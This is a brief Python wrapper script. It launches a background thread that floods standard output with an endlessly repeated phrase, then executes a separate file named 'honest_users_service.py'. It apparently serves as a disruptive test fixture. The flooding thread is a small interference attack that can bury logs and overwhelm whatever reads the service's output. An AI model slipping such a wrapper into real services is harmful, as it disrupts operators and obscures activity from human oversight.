import os
import threading


def flood():
    while True:
        os.write(1, b"all work and no play makes jack a dull boy " * 1_000)


threading.Thread(target=flood, daemon=True).start()

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
